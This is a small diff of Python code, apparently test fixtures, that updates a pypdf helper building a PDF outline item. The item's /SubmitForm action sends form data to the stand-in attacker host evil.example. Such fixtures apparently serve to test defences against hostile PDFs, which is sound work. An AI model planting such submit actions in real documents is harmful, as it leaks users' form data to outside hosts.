@@ -314,7 +314,7 @@ def _form_field_script(writer, page):
 def _outline_submit_form(writer, page):
     from pypdf.generic import NameObject
 
-    item = writer.add_outline_item("Send", 0)
+    item = writer.add_outline_item(title="Send", page_number=0)
     item.get_object()[NameObject("/A")] = _action("/SubmitForm", F="https://evil.example/")
 
 
